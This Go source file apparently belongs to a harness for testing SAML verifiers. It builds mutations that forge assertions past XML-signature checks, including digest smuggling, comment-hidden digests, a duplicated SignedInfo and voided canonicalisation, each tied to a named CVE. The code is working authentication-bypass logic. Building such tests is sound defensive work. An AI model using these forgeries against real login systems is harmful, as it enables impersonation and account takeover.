package forge

import (
	"crypto"
	"encoding/base64"
	"errors"

	"github.com/beevik/etree"
)

// A verifier can be told lies about the digest itself: where it is looked for,
// or how it is read. Here the forged part shows the genuine signature and goes
// by the signed ID; what was signed is gone.

// smuggling has the forged assertion show the genuine signature: its own, or
// the response's where that alone is signed. f gets the signature in its place
// and the digest that a verifier would compute of the forged assertion.
func smuggling(name string, f func(r, sig *etree.Element, digest string) error) Mutation {
	return after(name, func(r *etree.Element, with Context) error {
		a, err := onlyAssertion(r)
		if err != nil {
			return err
		}
		mine, outer := child(a, nsSignature, "Signature"), child(r, nsSignature, "Signature")
		sig, id := mine, a.SelectAttrValue("ID", "")
		if sig == nil {
			sig, id = outer, r.SelectAttrValue("ID", "")
			r.CreateAttr("ID", with.NewID())
		}
		if sig == nil {
			return errors.New("forge: nothing is signed")
		}
		sig = standalone(sig)
		evil, err := forgedFrom(a, with, false)
		if err != nil {
			return err
		}
		evil.CreateAttr("ID", id)
		at := a.Index()
		r.RemoveChildAt(at)
		r.InsertChildAt(at, evil)
		if outer != nil {
			r.RemoveChild(outer)
		}
		d := &draft{el: evil, info: child(sig, nsSignature, "SignedInfo"), with: with}
		text, err := d.content()
		if err != nil {
			return err
		}
		h := d.styleSum().New()
		h.Write(text)
		place(evil, sig)
		return f(r, sig, base64.StdEncoding.EncodeToString(h.Sum(nil)))
	})
}

// DigestSmuggled puts a DigestValue of the forged assertion in front of the
// signature's own (CVE-2024-45409).
func DigestSmuggled(where Place) Mutation {
	word := map[Place]string{InStatusDetail: "StatusDetail", InExtensions: "Extensions"}[where]
	return smuggling("the digest of a forged assertion in "+word, func(r, _ *etree.Element, digest string) error {
		v := etree.NewElement("ds:DigestValue")
		v.CreateAttr("xmlns:ds", nsSignature)
		v.SetText(digest)
		(&scene{root: r}).inResponse(where).AddChild(v)
		return nil
	})
}

// CommentInDigest puts the forged assertion's digest into a comment in front of
// the genuine one (CVE-2025-29775): canonicalization drops it, so the signature
// over SignedInfo stays good.
func CommentInDigest() Mutation {
	return smuggling("the digest of a forged assertion as a comment before the genuine one", func(_, sig *etree.Element, digest string) error {
		return each(sig, nsSignature, "DigestValue", func(v *etree.Element) error {
			v.InsertChildAt(0, etree.NewComment(digest))
			return nil
		})
	})
}

// SecondSignedInfo adds a SignedInfo that tells the forged assertion's digest,
// before the genuine one or behind it (CVE-2025-29774).
func SecondSignedInfo(first bool) Mutation {
	name := "a second SignedInfo, forged"
	if first {
		name = "a forged SignedInfo before the genuine one"
	}
	return smuggling(name, func(_, sig *etree.Element, digest string) error {
		info := child(sig, nsSignature, "SignedInfo")
		forged, at := info.Copy(), info.Index()+1
		if first {
			at = info.Index()
		}
		sig.InsertChildAt(at, forged)
		return each(forged, nsSignature, "DigestValue", func(v *etree.Element) error { return setText(v, digest) })
	})
}

// Void is what is made to be void.
type Void int

// Voids.
const (
	VoidDigest    Void = iota // the referenced element: its digest is that of nothing
	VoidSignature             // SignedInfo too: the value is a signature over nothing
)

// VoidCanonical declares a namespace with a relative name, on which libxml2's
// canonicalization fails; readers that take the failure for an empty text find
// the digest, or the signature, of nothing to be right ('The Fragile Lock',
// CVE-2025-66568, CVE-2025-66475). It takes one signature by the trusted key.
func VoidCanonical(v Void) Mutation {
	name := "a relative namespace, and the digest of nothing"
	if v == VoidSignature {
		name += ", and a signature over nothing"
	}
	return after(name, func(r *etree.Element, with Context) error {
		r.CreateAttr("xmlns:void", "1")
		return resigned(r, with, true, func(d *draft) error {
			if v == VoidSignature {
				d.value = func([]byte) ([]byte, error) { return signText(nil, with, crypto.SHA256) }
			}
			return d.digestAgain(nil)
		})
	})
}
